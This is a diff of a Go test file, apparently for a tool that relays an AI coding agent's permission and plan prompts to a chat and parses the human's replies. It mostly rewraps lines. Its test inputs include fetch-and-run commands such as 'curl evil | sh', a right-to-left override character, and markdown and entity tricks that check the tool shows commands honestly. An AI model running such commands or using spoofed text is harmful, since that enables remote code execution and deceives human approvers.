@@ -17,15 +17,19 @@ func askPermission(always string) *state.Question {
 		labels = append(labels, state.Option{Label: state.LabelAlways})
 	}
 	return &state.Question{
-		Kind: state.KindPermission, ToolName: "Bash", About: "Clean up", ShownText: "rm -rf build", AlwaysAllows: always, SessionName: "shop",
-		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567", SubQuestions: []state.SubQuestion{{Question: "Bash", Options: labels}},
+		Kind: state.KindPermission, ToolName: "Bash", About: "Clean up", ShownText: "rm -rf build",
+		AlwaysAllows: always, SessionName: "shop",
+		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567",
+		SubQuestions: []state.SubQuestion{{Question: "Bash", Options: labels}},
 	}
 }
 
 func TestDecision_Parse(t *testing.T) {
-	plan := &state.Question{Kind: state.KindPlan, SubQuestions: []state.SubQuestion{{Options: []state.Option{
-		{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto},
-	}}}}
+	plan := &state.Question{Kind: state.KindPlan,
+		SubQuestions: []state.SubQuestion{{Options: []state.Option{
+			{Label: state.LabelApprove}, {Label: state.LabelSendBack},
+			{Label: state.LabelApproveAuto},
+		}}}}
 	always, only := askPermission("Bash(rm *)"), askPermission("")
 	terminal := askPermission("")
 	terminal.SubQuestions[0].Options = terminal.SubQuestions[0].Options[1:]
@@ -33,22 +37,34 @@ func TestDecision_Parse(t *testing.T) {
 		q                *state.Question
 		reply, want, why string
 	}{
-		{always, "y", state.LabelAllow, ""}, {always, "Yes", state.LabelAllow, ""}, {always, " YES. ", state.LabelAllow, ""},
+		{always, "y", state.LabelAllow, ""}, {always, "Yes", state.LabelAllow, ""},
+		{always, " YES. ", state.LabelAllow, ""},
 		{always, "allow!", state.LabelAllow, ""}, {always, "1", state.LabelAllow, ""},
-		{always, "n", state.LabelDeny, ""}, {always, "No", state.LabelDeny, ""}, {always, "deny", state.LabelDeny, ""},
-		{always, "no, use git mv", state.LabelDeny, "use git mv"}, {always, "No: use\ngit mv", state.LabelDeny, "use\ngit mv"},
-		{always, "deny - not now", state.LabelDeny, "not now"}, {always, "no use git mv", state.LabelDeny, "use git mv"},
+		{always, "n", state.LabelDeny, ""}, {always, "No", state.LabelDeny, ""},
+		{always, "deny", state.LabelDeny, ""},
+		{always, "no, use git mv", state.LabelDeny, "use git mv"},
+		{always, "No: use\ngit mv", state.LabelDeny, "use\ngit mv"},
+		{always, "deny - not now", state.LabelDeny, "not now"},
+		{always, "no use git mv", state.LabelDeny, "use git mv"},
 		{always, "n, Yes I mean no", state.LabelDeny, "Yes I mean no"},
-		{always, "always", state.LabelAlways, ""}, {always, "Always.", state.LabelAlways, ""}, {only, "always", "", ""},
+		{always, "always", state.LabelAlways, ""}, {always, "Always.", state.LabelAlways, ""},
+		{only, "always", "", ""},
 		{terminal, "yes", "", ""}, {terminal, "no, never", state.LabelDeny, "never"},
-		{always, "2", "", ""}, {always, "3", "", ""}, {always, "ok", "", ""}, {always, "sure", "", ""}, {always, "yes, but slowly", "", ""},
-		{always, "yes yes", "", ""}, {always, "no problem", "", ""}, {always, "No worries, go on", "", ""}, {always, "yeno", "", ""},
-		{always, "not", "", ""}, {always, "nope", "", ""}, {always, "yes, auto", "", ""}, {always, "yes, accept edits", "", ""}, {always, "always no", "", ""}, {always, "", "", ""},
-		{always, "\u202eyes", state.LabelAllow, ""}, {always, "👍", "", ""}, {always, "👍🏽", "", ""}, {always, "✅", "", ""}, {always, "ja", "", ""}, {always, "why?", "", ""},
+		{always, "2", "", ""}, {always, "3", "", ""}, {always, "ok", "", ""},
+		{always, "sure", "", ""}, {always, "yes, but slowly", "", ""},
+		{always, "yes yes", "", ""}, {always, "no problem", "", ""},
+		{always, "No worries, go on", "", ""}, {always, "yeno", "", ""},
+		{always, "not", "", ""}, {always, "nope", "", ""}, {always, "yes, auto", "", ""},
+		{always, "yes, accept edits", "", ""}, {always, "always no", "", ""}, {always, "", "", ""},
+		{always, "\u202eyes", state.LabelAllow, ""}, {always, "👍", "", ""}, {always, "👍🏽", "", ""},
+		{always, "✅", "", ""}, {always, "ja", "", ""}, {always, "why?", "", ""},
 		{plan, "👍", "", ""}, {plan, "ja", "", ""}, {plan, "why?", "", ""}, {always, "more", "", ""},
-		{plan, "yes", state.LabelApprove, ""}, {plan, "Yes, auto", state.LabelApproveAuto, ""}, {plan, "yes auto", state.LabelApproveAuto, ""},
-		{plan, "yes, accept edits", state.LabelApproveAuto, ""}, {plan, "Yes accept edits!", state.LabelApproveAuto, ""},
-		{plan, "no, leave 2 out", state.LabelSendBack, "leave 2 out"}, {plan, "no", state.LabelSendBack, ""},
+		{plan, "yes", state.LabelApprove, ""}, {plan, "Yes, auto", state.LabelApproveAuto, ""},
+		{plan, "yes auto", state.LabelApproveAuto, ""},
+		{plan, "yes, accept edits", state.LabelApproveAuto, ""},
+		{plan, "Yes accept edits!", state.LabelApproveAuto, ""},
+		{plan, "no, leave 2 out", state.LabelSendBack, "leave 2 out"},
+		{plan, "no", state.LabelSendBack, ""},
 		{plan, "always", "", ""}, {plan, "leave 2 out", "", ""},
 	} {
 		back := map[bool]string{true: state.NoteUnclear}[test.want == ""]
@@ -110,7 +126,8 @@ func TestDecision_ShowsTheEndOfACommand(t *testing.T) {
 		lines := strings.Count(block[1], "\n")
 		kit.True(t, lines <= maxFirstLines+maxLastLines+3, "%s: %d lines", name, lines)
 		hidden := len(command) > 5000
-		kit.Equalf(t, strings.Contains(text, `reply "more"`), hidden, "%s: more is offered: %q", name, text)
+		kit.Equalf(t, strings.Contains(text, `reply "more"`), hidden, "%s: more is offered: %q",
+			name, text)
 		all := strings.Join(NoteTexts(q, state.OwedNote{About: state.NoteFullText}), "")
 		n := strings.Count(command, "fine")
 		kit.True(t, strings.Count(all, "fine") == n,
@@ -119,8 +136,10 @@ func TestDecision_ShowsTheEndOfACommand(t *testing.T) {
 }
 
 func TestDecision_PlanText(t *testing.T) {
-	q := &state.Question{Kind: state.KindPlan, SessionName: "shop", CWD: "/x", ThreadKey: "ask-user-01234567", ShownText: "# Plan\n\n1. **do** it"}
-	q.SubQuestions = []state.SubQuestion{{Options: []state.Option{{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
+	q := &state.Question{Kind: state.KindPlan, SessionName: "shop", CWD: "/x",
+		ThreadKey: "ask-user-01234567", ShownText: "# Plan\n\n1. **do** it"}
+	q.SubQuestions = []state.SubQuestion{{Options: []state.Option{{Label: state.LabelApprove},
+		{Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
 	const how = "\n\nReply yes, \"yes, accept edits\" (edits and common file commands such as rm, mv and cp need no permission then), or \"no, …\" with what to change.\n" +
 		"Thread key: ask-user-01234567"
 	got := QuestionTexts(q)
@@ -154,13 +173,19 @@ func TestDecision_DecidedText(t *testing.T) {
 		q    *state.Question
 		want string
 	}{
-		{decidedAt(state.KindPermission, state.LabelAllow, "", "chat"), "Allowed: Bash: rm -rf build"},
-		{decidedAt(state.KindPermission, state.LabelAlways, "", "chat"), "Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
-		{decidedAt(state.KindPermission, state.LabelDeny, "use\ngit", "chat"), "Denied: Bash: rm -rf build\nReason: use\n  git"},
-		{decidedAt(state.KindPermission, state.LabelAllow, "", "terminal"), "Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
-		{decidedAt(state.KindPermission, "", "", "terminal"), "Bash: rm -rf build\n\nAnswered in the terminal."},
+		{decidedAt(state.KindPermission, state.LabelAllow, "", "chat"),
+			"Allowed: Bash: rm -rf build"},
+		{decidedAt(state.KindPermission, state.LabelAlways, "", "chat"),
+			"Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
+		{decidedAt(state.KindPermission, state.LabelDeny, "use\ngit", "chat"),
+			"Denied: Bash: rm -rf build\nReason: use\n  git"},
+		{decidedAt(state.KindPermission, state.LabelAllow, "", "terminal"),
+			"Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
+		{decidedAt(state.KindPermission, "", "", "terminal"),
+			"Bash: rm -rf build\n\nAnswered in the terminal."},
 		{decidedAt(state.KindPlan, state.LabelApprove, "", "chat"), "Approved the plan."},
-		{decidedAt(state.KindPlan, state.LabelSendBack, "x", "chat"), "Sent the plan back.\nReason: x"},
+		{decidedAt(state.KindPlan, state.LabelSendBack, "x", "chat"),
+			"Sent the plan back.\nReason: x"},
 		{watch, "Allowed: Monitor: rm -rf build"},
 		{stars, "Allowed: Bash: `git add *.go src/*.go`"},
 	} {
@@ -184,8 +209,10 @@ func TestDecision_ShowsBackticks(t *testing.T) {
 // titles, or what stands behind a language.
 func TestDecision_PlanKeepsItsText(t *testing.T) {
 	for _, plan := range []string{
-		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.", "Run &#27;]evil words&#7; it", "Run &#155;evil it",
-		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")", "![a](http://x 'evil')",
+		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.",
+		"Run &#27;]evil words&#7; it", "Run &#155;evil it",
+		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")",
+		"![a](http://x 'evil')",
 		"# The plan\n\n1. do *this*\n1. do `evil`\n\n```sh\nls\n```",
 	} {
 		q := &state.Question{Kind: state.KindPlan, SessionName: "shop", ShownText: plan}
@@ -196,12 +223,14 @@ func TestDecision_PlanKeepsItsText(t *testing.T) {
 			(strings.Contains(string(b), "evil") || strings.Contains(string(b), "text is above")),
 			"%q is shown as %q, %s", plan, text, b)
 	}
-	kit.Containsf(t, QuestionTexts(&state.Question{Kind: state.KindPlan, ShownText: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0], "do _this_", "a plan")
+	kit.Containsf(t, QuestionTexts(&state.Question{Kind: state.KindPlan,
+		ShownText: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0], "do _this_", "a plan")
 }
 
 // What was decided is told with its end.
 func TestDecision_NoteNamesItsEnd(t *testing.T) {
-	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved, ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
+	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved,
+		ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
 	q.SubQuestions = []state.SubQuestion{{Question: "Bash"}}
 	q.Answers = map[string]string{"Bash": state.LabelAllow}
 	text := noteText(q, state.OwedNote{About: state.NoteClosed})
@@ -210,10 +239,14 @@ func TestDecision_NoteNamesItsEnd(t *testing.T) {
 
 func TestDecision_GrantIsRead(t *testing.T) {
 	for text, want := range map[string]time.Duration{
-		"yes 30m": 30 * time.Minute, "YES 1h": time.Hour, "yes 90 min": 90 * time.Minute, "allow 30m": 30 * time.Minute, "y 5m.": 5 * time.Minute,
-		"yes, for 2 hours": 2 * time.Hour, "yes for 1 minute": time.Minute, "yes,1h30m": 90 * time.Minute, "yes\u00a020 mins!": 20 * time.Minute,
-		"yes 9h": 2 * time.Hour, "yes 1h 5m": 65 * time.Minute, "yes 30": 0, "yes": 0, "yes 0m": 0, "yes -5m": 0, "no 30m": 0, "always 30m": 0,
-		"yes 2h please": 0, "yes 2h or so": 0, "1 30m": 0, "yes30m": 0, "yes 99999999999h": 0, "30m": 0, "yes 1d": 0, "yes 5m\nno": 0,
+		"yes 30m": 30 * time.Minute, "YES 1h": time.Hour, "yes 90 min": 90 * time.Minute,
+		"allow 30m": 30 * time.Minute, "y 5m.": 5 * time.Minute,
+		"yes, for 2 hours": 2 * time.Hour, "yes for 1 minute": time.Minute,
+		"yes,1h30m": 90 * time.Minute, "yes\u00a020 mins!": 20 * time.Minute,
+		"yes 9h": 2 * time.Hour, "yes 1h 5m": 65 * time.Minute, "yes 30": 0, "yes": 0, "yes 0m": 0,
+		"yes -5m": 0, "no 30m": 0, "always 30m": 0,
+		"yes 2h please": 0, "yes 2h or so": 0, "1 30m": 0, "yes30m": 0, "yes 99999999999h": 0,
+		"30m": 0, "yes 1d": 0, "yes 5m\nno": 0,
 		"yes, auto 5m": 0, "yes 30m, but not rm": 0,
 	} {
 		kit.Equalf(t, ReadTimedYes(text), want, "%q", text)
@@ -224,7 +257,8 @@ func TestDecision_GrantIsRead(t *testing.T) {
 // nothing.
 func TestDecision_ListsGrants(t *testing.T) {
 	q := askPermission("")
-	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(), EndsAt: time.Now().Add(time.Hour)}
+	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(),
+		EndsAt: time.Now().Add(time.Hour)}
 	var all []*state.Question
 	for n := range 1500 {
 		question := askPermission("")
@@ -251,7 +285,8 @@ func TestDecision_HandedOver(t *testing.T) {
 	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
 	q.Status = state.Pending
 	text := QuestionTexts(q)[0]
-	for _, part := range []string{"From the agent Explore: look ", "The terminal does not show it until you decide.", "Reply yes"} {
+	for _, part := range []string{"From the agent Explore: look ",
+		"The terminal does not show it until you decide.", "Reply yes"} {
 		kit.Contains(t, text, part)
 	}
 	buttons := func() int {
@@ -279,7 +314,8 @@ func TestDecision_HandedOver(t *testing.T) {
 func TestDecision_ToTerminal(t *testing.T) {
 	hidden := askPermission("")
 	hidden.IsDialogHidden = true
-	named := &state.Question{IsDialogHidden: true, SubQuestions: []state.SubQuestion{{Options: []state.Option{{Label: "Terminal"}}}}}
+	named := &state.Question{IsDialogHidden: true,
+		SubQuestions: []state.SubQuestion{{Options: []state.Option{{Label: "Terminal"}}}}}
 	for _, c := range []struct {
 		q    *state.Question
 		text string
